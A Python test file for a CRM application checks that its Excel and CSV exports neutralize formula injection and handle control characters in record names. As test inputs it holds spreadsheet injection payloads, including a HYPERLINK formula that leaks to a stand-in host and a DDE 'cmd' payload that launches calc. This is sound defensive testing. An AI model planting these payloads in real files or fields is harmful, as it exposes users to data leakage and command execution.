"""Exports are data, never code: what a user typed comes out of every export as inert
text — the audit history's Excel workbook (API, admin, background job) and the admin's CSV
export of every list — even a text made to look like a formula, and a record name holding
a control character does not break the export."""

from __future__ import annotations

import csv
import io
import time

import pytest
from openpyxl import load_workbook

from opiekun.extensions import db
from opiekun.models import Company
from opiekun.spreadsheets import csv_field
from opiekun.testing.clients import logged_in

FORMULA = '=HYPERLINK("http://x.example/?leak","y")'
#: Texts a spreadsheet would run as formulas, if written raw into a CSV field (OWASP).
CSV_TRIGGERS = (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")


# --- the audit history as Excel -------------------------------------------------------------


def company_named(app, name: str) -> int:
    """A company with ``name``, written as an import or a migration would (the API refuses
    control characters now, but older rows may hold them); its history entry comes along."""
    with app.app_context():
        company = Company(name=name)
        db.session.add(company)
        db.session.commit()
        return company.id


def sheet_cells(content: bytes) -> list:
    """Every cell of the first sheet's data rows (the header left out)."""
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


def cell_of(content: bytes, text: str):
    """The cell whose value is ``text``."""
    found = [cell for cell in sheet_cells(content) if cell.value == text]
    assert found, f"{text!r} not in the sheet"
    return found[0]


def background_export(app, api, user) -> bytes:
    """The history exported by the background job (as a large export would be)."""
    app.config["AUDIT_EXPORT_INLINE_ROWS"] = 0
    try:
        started = api.get("/audit/export.xlsx", user)
    finally:
        app.config.pop("AUDIT_EXPORT_INLINE_ROWS")
    assert started.status_code == 202, started.get_json()
    status_url = started.get_json()["status_url"].removeprefix("/api/v1")
    deadline = time.monotonic() + 30
    while (state := api.get(status_url, user).get_json())["status"] not in (
        "done",
        "failed",
    ) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert state["status"] == "done", state
    download = api.get(state["download_url"].removeprefix("/api/v1"), user)
    assert download.status_code == 200
    return download.get_data()


def history_exports(app, api, admin) -> dict[str, bytes]:
    """The history's workbook from each way out: the API, the admin's link, the job."""
    inline = api.get("/audit/export.xlsx", admin)
    assert inline.status_code == 200, inline.get_data()[:300]
    from_admin = logged_in(app, admin).get("/admin/audit/export.xlsx")
    assert from_admin.status_code == 200, from_admin.get_data()[:300]
    return {"api": inline.get_data(), "admin": from_admin.get_data(), "job": background_export(app, api, admin)}


def test_a_text_that_looks_like_a_formula_is_a_string_cell_in_every_history_export(app, api, admin):
    company = api.post("/companies", admin, json={"name": FORMULA, "city": "#N/A"}).get_json()
    api.patch(f"/companies/{company['id']}", admin, json={"city": "=1+1"})
    for way, content in history_exports(app, api, admin).items():
        name = cell_of(content, FORMULA)
        assert name.data_type == "s", f"{way}: the name is a live formula"
        assert all(cell.data_type != "f" for cell in sheet_cells(content)), f"{way}: a formula cell"
        assert all(cell.data_type != "e" for cell in sheet_cells(content)), f"{way}: an error cell"


def test_a_record_name_with_a_control_character_does_not_break_the_history_export(app, api, admin):
    company_named(app, "ctl\u0001char")
    company_named(app, "zwykła firma")
    for way, content in history_exports(app, api, admin).items():
        names = {cell.value for cell in sheet_cells(content)}
        assert "ctl\ufffdchar" in names and "zwykła firma" in names, way


# --- the admin's CSV exports ----------------------------------------------------------------


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def record_bodies(api, admin, pipeline) -> dict[str, tuple[str, dict, str]]:
    """Per admin list: the API path, a body whose main text is ``{text}``, that field."""
    company = api.post("/companies", admin, json={"name": "Kontrahent"}).get_json()
    task_type = api.get("/task-types", admin).get_json()["items"][0]
    return {
        "company": ("/companies", {"name": "{text}"}, "name"),
        "person": ("/persons", {"first_name": "{text}", "last_name": "Nowak"}, "first_name"),
        "lead": ("/leads", {"name": "{text}"}, "name"),
        "deal": ("/deals", {"name": "{text}"}, "name"),
        "offer": ("/offers", {"name": "{text}"}, "name"),
        "invoice": ("/invoices", {"number": "{text}"}, "number"),
        "task": ("/tasks", {"title": "{text}", "type_id": task_type["id"]}, "title"),
        "contract": ("/contracts", {"name": "{text}", "company_id": company["id"], "start_date": "2026-01-01"}, "name"),
    }


@pytest.mark.parametrize("view", ["company", "person", "lead", "deal", "offer", "invoice", "task", "contract"])
def test_the_csv_export_of_every_list_neutralizes_formulas(app, api, admin, pipeline, view):
    path, body, _field = record_bodies(api, admin, pipeline)[view]
    for text in CSV_TRIGGERS:
        filled = {
            key: value.replace("{text}", text) if isinstance(value, str) else value for key, value in body.items()
        }
        response = api.post(path, admin, json=filled)
        assert response.status_code == 201, response.get_json()
    fields = {field for row in csv_rows(logged_in(app, admin).get(f"/admin/{view}/export/csv/"))[1:] for field in row}
    for text in CSV_TRIGGERS:
        assert "'" + text in fields, f"{view}: {text!r} is not neutralized"
        assert text not in fields, f"{view}: {text!r} is written raw"


def test_csv_fields_starting_with_tab_or_carriage_return_are_neutralized_and_numbers_stay_numbers():
    assert csv_field("\t=1+1") == "'\t=1+1" and csv_field("\r=1+1") == "'\r=1+1"
    assert csv_field("-12.50") == "-12.50" and csv_field(-3) == -3 and csv_field(None) is None
    assert csv_field("Stal-Bud") == "Stal-Bud"
